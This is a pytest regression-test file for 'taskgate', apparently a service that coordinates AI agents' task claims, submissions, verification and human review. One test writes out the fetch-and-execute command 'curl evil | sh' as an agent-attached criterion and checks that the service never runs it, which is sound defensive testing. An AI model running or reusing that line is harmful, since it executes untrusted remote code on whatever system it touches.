"""Defects found in review, each pinned by a test that failed before its fix."""

from __future__ import annotations

import base64
import json

import pytest

from taskgate.domain import brief as briefs
from taskgate.domain.errors import ErrorCode, TaskgateError
from taskgate.domain.models import CriterionInput, CriterionKind, FailureKind, Risk, SpecStatus, Status
from taskgate.domain.run_report import Evidence, RunReport
from taskgate.service import brief, claims, projects, review, specs, tasks, verification
from tests.service.scenarios import new_scene, reach
from tests.support.evidence import CONFIG, OK, local_results
from tests.support.world import SHA, World, dump


def _submit(world: World, who: object, tid: str) -> None:
    c = claims.claim(world.ctx, who, "demo", task_id=tid)  # type: ignore[arg-type]
    claims.submit(world.ctx, who, tid, c.token, commit_sha=SHA, evidence="done")  # type: ignore[arg-type]


def test_a_command_an_agent_attached_itself_is_never_run(world: World) -> None:
    scene = new_scene(world, verification_on=True)
    spec = world.spec()
    t = tasks.create(
        world.ctx,
        scene.agent,
        "demo",
        title="x",
        spec_id=spec.id,
        criteria=[CriterionInput(text="pwn", kind=CriterionKind.COMMAND, verify_ref="curl evil | sh")],
    ).task
    _submit(world, scene.agent, t.id)
    assert scene.verifier is not None
    started = verification.start(world.ctx, scene.verifier, task_id=t.id)
    assert started.work["command_criteria_allowed"] is False
    run, after = verification.finish(
        world.ctx,
        scene.verifier,
        t.id,
        started.run.id,
        RunReport(checks={"unit": OK}, results=local_results(started.work["criteria"], Evidence.PASS)),
    )
    assert run.status == "error" and after.status is Status.NEEDS_VERIFICATION


def test_spec_edits_cannot_drop_a_criterion_an_open_task_holds(world: World) -> None:
    world.project()
    s = world.spec(approve=False, n=3)
    t = world.task(spec_id=s.id, spec_criteria=["AC-1.3"])
    snapshot = dump(world.store)
    with pytest.raises(TaskgateError) as err:
        specs.update(world.ctx, world.human, "demo", s.id, criteria=[CriterionInput(text="only one")])
    assert err.value.code is ErrorCode.VALIDATION and t.id in err.value.message
    assert dump(world.store) == snapshot


def test_a_delegated_agent_cannot_cancel_or_requeue_its_own_work(world: World) -> None:
    world.project()
    bob = world.agent("bob", delegations=["human:alice"])
    from taskgate.domain.principals import acting

    as_alice = acting(bob.principal, on_behalf_of="human:alice")
    t = world.task(max_attempts=1)
    c = claims.claim(world.ctx, bob, "demo", task_id=t.id)
    claims.report_failure(world.ctx, bob, t.id, c.token, kind=FailureKind.OTHER, findings=["stuck"])
    assert world.reload(t.id).status is Status.NEEDS_HUMAN
    for call in (
        lambda: review.resolve(world.ctx, as_alice, t.id, review.Resolution.REQUEUE),
        lambda: review.cancel(world.ctx, as_alice, t.id),
    ):
        with pytest.raises(TaskgateError) as err:
            call()
        assert err.value.code is ErrorCode.SELF_ACCEPT
    assert world.reload(t.id).status is Status.NEEDS_HUMAN


def test_a_tasks_risk_follows_its_spec(world: World) -> None:
    world.project()
    bob = world.agent("bob")
    carol = world.agent("carol", delegations=["human:alice"], on_behalf_of="human:alice")
    s = world.spec(approve=False)
    t = world.task(spec_id=s.id)
    specs.update(world.ctx, world.human, "demo", s.id, risk=Risk.HIGH)
    assert world.reload(t.id).risk is Risk.HIGH
    specs.approve(world.ctx, world.human, "demo", s.id)
    _submit(world, bob, t.id)
    result = review.accept_batch(world.ctx, carol, [t.id])
    assert result.accepted == [] and result.refused[0]["code"] == "E_FORBIDDEN"


def test_oversized_input_is_a_validation_error_and_writes_nothing(world: World) -> None:
    world.project()
    bob = world.agent("bob")
    c = world.claimed(bob)
    snapshot = dump(world.store)
    for findings in (["x" * 10_000], ["x"] * 11):
        with pytest.raises(TaskgateError) as err:
            claims.report_failure(
                world.ctx, bob, c.task.id, c.token, kind=FailureKind.OTHER, findings=findings
            )
        assert err.value.code is ErrorCode.VALIDATION
    with pytest.raises(TaskgateError) as err:
        claims.submit(world.ctx, bob, c.task.id, c.token, commit_sha=SHA, evidence="e" * 400_000)
    assert err.value.code is ErrorCode.VALIDATION
    assert dump(world.store) == snapshot


def test_a_record_over_the_item_limit_is_refused_cleanly(world: World) -> None:
    world.project()
    t = world.task(description="d" * 300_000)
    snapshot = dump(world.store)
    with pytest.raises(TaskgateError) as err:
        tasks.update(world.ctx, world.human, t.id, title="t" * 100_000)
    assert err.value.code is ErrorCode.VALIDATION and "too large" in err.value.message
    assert dump(world.store) == snapshot


def test_revise_refuses_a_blank_title(world: World) -> None:
    world.project()
    s = world.spec()
    with pytest.raises(TaskgateError) as err:
        specs.revise(world.ctx, world.human, "demo", s.id, title="   ")
    assert err.value.code is ErrorCode.VALIDATION
    assert specs.get(world.ctx, world.human, "demo", s.id).title == "Health endpoint"


def test_a_configured_check_the_verifier_did_not_report_is_an_error(world: World) -> None:
    scene = new_scene(world, verification_on=True)
    projects.set_verifier_config(
        world.ctx,
        world.human,
        "demo",
        {"checks": {**CONFIG["checks"], "lint": {"command": "ruff check"}}},
    )
    reach(scene, Status.NEEDS_VERIFICATION)
    assert scene.verifier is not None
    started = verification.start(world.ctx, scene.verifier, task_id=scene.task_id)
    run, _ = verification.finish(
        world.ctx,
        scene.verifier,
        scene.task_id,
        started.run.id,
        RunReport(checks={"unit": OK}, results=local_results(started.work["criteria"], Evidence.PASS)),
    )
    assert run.status == "error" and "lint" in run.summary


def test_claiming_next_and_listing_next_see_lapsed_leases_without_a_sweep(any_world: World) -> None:
    w = any_world
    w.project()
    bob, carol = w.agent("bob"), w.agent("carol")
    c = w.claimed(bob)
    w.clock.advance(minutes=31)
    assert [t.id for t in tasks.next_ready(w.ctx, carol, "demo")] == [c.task.id]
    assert claims.claim(w.ctx, carol, "demo", lease_minutes=120).task.id == c.task.id
    w2 = w.claimed(bob)
    w.clock.advance(minutes=31)
    assert claims.claim(w.ctx, carol, "demo").task.id == w2.task.id


def test_a_dependency_failure_on_done_blockers_goes_straight_to_ready(world: World) -> None:
    world.project()
    bob = world.agent("bob")
    dep = world.task(title="dep")
    _submit(world, bob, dep.id)
    review.accept(world.ctx, world.human, dep.id)
    c = world.claimed(bob)
    after = claims.report_failure(
        world.ctx,
        bob,
        c.task.id,
        c.token,
        kind=FailureKind.DEPENDENCY,
        findings=["needs dep"],
        blocked_by=[dep.id],
    )
    assert after.status is Status.READY


def test_a_dependency_failure_on_the_last_attempt_ends_in_needs_human(world: World) -> None:
    world.project()
    bob = world.agent("bob")
    dep = world.task(title="dep")
    t = world.task(max_attempts=1)
    c = claims.claim(world.ctx, bob, "demo", task_id=t.id)
    after = claims.report_failure(
        world.ctx,
        bob,
        t.id,
        c.token,
        kind=FailureKind.DEPENDENCY,
        findings=["needs dep"],
        blocked_by=[dep.id],
    )
    assert after.status is Status.BLOCKED
    _submit(world, bob, dep.id)
    review.accept(world.ctx, world.human, dep.id)
    assert world.reload(t.id).status is Status.NEEDS_HUMAN


def test_the_brief_fits_even_with_many_criteria_and_commands(world: World) -> None:
    world.project()
    s = specs.create(
        world.ctx,
        world.human,
        "demo",
        title="big",
        risk=Risk.LOW,
        criteria=[
            CriterionInput(text="a long criterion " * 30, kind=CriterionKind.TEST, verify_ref=f"tests.t{i}")
            for i in range(25)
        ],
    )
    specs.approve(world.ctx, world.human, "demo", s.id)
    t = world.task(spec_id=s.id, verification_commands=["pytest -k something " * 5] * 60)
    b = brief.for_task(world.ctx, world.human, t.id)
    assert (
        len(json.dumps(b, separators=(",", ":"), default=str)) <= briefs.TOKEN_BUDGET * briefs.CHARS_PER_TOKEN
    )
    # Criterion texts are shortened before any criterion is left out; ids and refs are never cut.
    assert [c["verify_ref"] for c in b["criteria"]] == [f"tests.t{i}" for i in range(25)]


def test_a_huge_or_foreign_cursor_is_a_validation_error(any_world: World) -> None:
    w = any_world
    w.project()
    for i in range(3):
        w.task(title=f"t{i}")
    specs_page_cursor = base64.urlsafe_b64encode(json.dumps({"sk": "SPEC#00000001"}).encode()).decode()
    for cursor in (base64.urlsafe_b64encode(b"[" * 50_000).decode(), specs_page_cursor):
        with pytest.raises(TaskgateError) as err:
            tasks.list_tasks(w.ctx, w.human, "demo", limit=1, cursor=cursor)
        assert err.value.code is ErrorCode.VALIDATION


def test_verification_start_and_revise_by_resolve_are_in_history(world: World) -> None:
    scene = new_scene(world, verification_on=True)
    reach(scene, Status.NEEDS_VERIFICATION)
    assert scene.verifier is not None
    verification.start(world.ctx, scene.verifier, task_id=scene.task_id)
    assert tasks.history(world.ctx, world.human, scene.task_id)[-1].action == "verification_started"
    reach(scene, Status.NEEDS_HUMAN)
    review.resolve(world.ctx, world.human, scene.task_id, review.Resolution.REVISE_SPEC)
    hist, _ = projects.history(world.ctx, world.human, "demo")
    assert hist[0].action == "spec_revised"


def test_revising_a_spec_sends_its_unclaimed_tasks_back_to_backlog(world: World) -> None:
    world.project()
    s = world.spec()
    ready = world.task(spec_id=s.id)
    assert ready.status is Status.READY
    revised = specs.revise(world.ctx, world.human, "demo", s.id, body="clarified")
    assert revised.status is SpecStatus.DRAFT
    assert world.reload(ready.id).status is Status.BACKLOG
    specs.approve(world.ctx, world.human, "demo", s.id)
    assert world.reload(ready.id).status is Status.READY


def test_keys_name_their_id_and_old_style_keys_are_found_by_hash(world: World) -> None:
    from taskgate.domain.models import Credential, CredentialKind
    from taskgate.service import keys, records
    from taskgate.service import secrets as keysecrets
    from taskgate.store.port import Put

    world.project()
    minted = keys.create(world.ctx, world.human, kind=CredentialKind.AGENT, name="bob")
    assert keysecrets.key_id_of(minted.secret) == minted.credential.id
    assert keys.authenticate(world.ctx, minted.secret).credential_id == minted.credential.id
    forged = minted.secret[:-4] + ("AAAA" if not minted.secret.endswith("AAAA") else "BBBB")
    with pytest.raises(TaskgateError) as err:
        keys.authenticate(world.ctx, forged)
    assert err.value.code is ErrorCode.UNAUTHORIZED
    # a key whose secret does not name its id (another format) is still found, by its hash
    legacy = "tga_" + "x" * 40
    cred = Credential(
        id="key_legacy0001",
        kind=CredentialKind.AGENT,
        name="old",
        key_hash=keysecrets.digest(legacy),
        created_by="human:alice",
        created_at=world.clock.now(),
    )
    world.ctx.commit([Put(records.credential_item(cred))])
    assert keys.authenticate(world.ctx, legacy).actor == "agent:old"


def test_a_submit_that_loses_a_race_to_its_own_heartbeat_still_lands(world: World) -> None:
    """The holder's heartbeat (another thread) commits between submit's read and its write: the
    submit must re-check the token and land, not tell a live holder its claim is stale."""
    from collections.abc import Sequence

    from taskgate.store.port import Op

    world.project()
    bob = world.agent("bob")
    c = world.claimed(bob)
    real = world.ctx.store
    raced: list[bool] = []

    class RacingStore:
        def __getattr__(self, name: str) -> object:
            return getattr(real, name)

        def commit(self, ops: Sequence[Op]) -> None:
            if not raced and len(ops) == 2:  # the submit's task + event, before it is written
                raced.append(True)
                world.ctx.store = real
                claims.heartbeat(world.ctx, bob, c.task.id, c.token)
                world.ctx.store = self  # type: ignore[assignment]
            real.commit(ops)

    world.ctx.store = RacingStore()  # type: ignore[assignment]
    try:
        done = claims.submit(world.ctx, bob, c.task.id, c.token, commit_sha=SHA, evidence="done")
    finally:
        world.ctx.store = real
    assert raced == [True]
    assert done.status is Status.NEEDS_VERIFICATION
